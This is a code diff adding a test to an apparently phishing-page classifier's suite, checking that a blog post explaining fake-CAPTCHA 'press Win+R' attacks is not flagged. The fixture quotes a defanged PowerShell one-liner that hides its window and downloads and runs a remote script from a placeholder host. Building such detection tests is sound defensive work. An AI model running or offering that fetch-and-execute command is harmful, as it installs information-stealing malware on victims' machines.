@@ -893,6 +893,11 @@ describe('analysis: signal rules', () => {
       clean(judge('https://fines.transport.gov.uk/pay', `<title>Pay a penalty notice</title><h1>Parking fine</h1><p>Amount due: £35.00.</p>${card}`));
     });
 
+    it('an IT blog explaining fake-CAPTCHA attacks (Win+R, Ctrl+V, a defanged command) is a write-up, not a ClickFix page', () => {
+      const steps = '<p>After ticking the box, the page tells you to press Windows + R, then Ctrl + V, then Enter. The page has copied a command into your clipboard: powershell -w hidden -c "iex(irm hxxps://example[.]invalid/s.ps1)" (defanged).</p>';
+      clean(judge('https://blog.harbour-it.example/2026/11/fake-captcha-explained', `<title>Fake CAPTCHA "press Win+R" attacks explained – Harbour IT Blog</title><h1>Fake CAPTCHA attacks explained</h1><p>Several clients' staff met a page that looks like a reCAPTCHA check.</p>${steps}<p>The downloaded script usually installs an information stealer. ${'Block the Run dialog by Group Policy and log PowerShell script blocks. '.repeat(4)}</p>`));
+    });
+
     it("a brand's customer-service line on a host the brand does not own is a fake helpdesk; a travel agency that names itself offering its own line is not", () => {
       const desk = (host: string, footer: string): ScanResult =>
         judge(`https://${host}/netflix/customer-service`, `<title>Netflix Customer Service ☎ +1-888-702-4417 | 24/7 Billing Help</title><h1>Netflix billing helpline</h1><p>Talk to a live agent now. Call +1-888-702-4417, agents available 24/7.</p>${footer}`);
